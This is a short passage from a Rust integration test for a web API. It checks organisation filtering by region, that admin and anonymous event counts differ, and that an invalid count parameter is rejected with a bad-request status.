        let in_region = whole_page(app.as_admin(), &format!("{ORGANISATIONS}?region_code=76&limit=200")).await;
        assert_eq!(filtered["total"], json!(in_region.len()));
        let events = json_of(app.as_admin().get("/api/v1/events?count=true").await, StatusCode::OK).await;
        let public = json_of(app.as_anonymous().get("/api/v1/events?count=true").await, StatusCode::OK).await;
        assert_eq!((events["total"].as_u64(), public["total"].as_u64()), (Some(2), Some(1)), "{events} {public}");
        let bad = app.get(&format!("{ORGANISATIONS}?count=yes")).await;
        assert_eq!(bad.status(), StatusCode::BAD_REQUEST, "count is true or false");
    }
}
